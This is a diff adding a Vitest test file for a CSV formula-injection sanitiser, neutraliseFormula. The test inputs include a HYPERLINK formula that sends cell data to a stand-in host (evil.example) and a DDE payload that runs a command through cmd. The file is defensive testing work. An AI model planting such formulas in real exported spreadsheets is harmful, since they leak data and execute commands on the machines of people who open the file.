@@ -1,0 +1,39 @@
+import { describe, expect, it } from "vitest";
+import { neutraliseFormula } from "../../reports/csv-safe.ts";
+
+describe("neutraliseFormula", () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")'],
+    ["+1"],
+    ["-2+3"],
+    ["@SUM(A1:A9)"],
+    ["\t=1+1"],
+    ["\r=1+1"],
+    ["\n=1+1"],
+    ["=cmd|'/c calc'!A1"],
+  ])("prefixes a single quote to %j", (cell) => {
+    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
+  });
+
+  it.each([["  =1+1"], [" @SUM(A1)"], ["\u00a0-1"]])(
+    "catches a formula after leading whitespace: %j",
+    (cell) => {
+      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
+    },
+  );
+
+  it("catches full-width formula characters some spreadsheets also accept", () => {
+    expect(neutraliseFormula("\uFF1D1+1")).toBe("'\uFF1D1+1");
+  });
+
+  it.each([
+    ["dana.whitfield@acme.com"],
+    ["ghost-account"],
+    ["monthlyCost=12.5; lastLoginAt=null"],
+    ["SOC2 CC6.2; NIST AC-2"],
+    [""],
+    ["'already quoted"],
+  ])("leaves ordinary text unchanged: %j", (cell) => {
+    expect(neutraliseFormula(cell)).toBe(cell);
+  });
+});
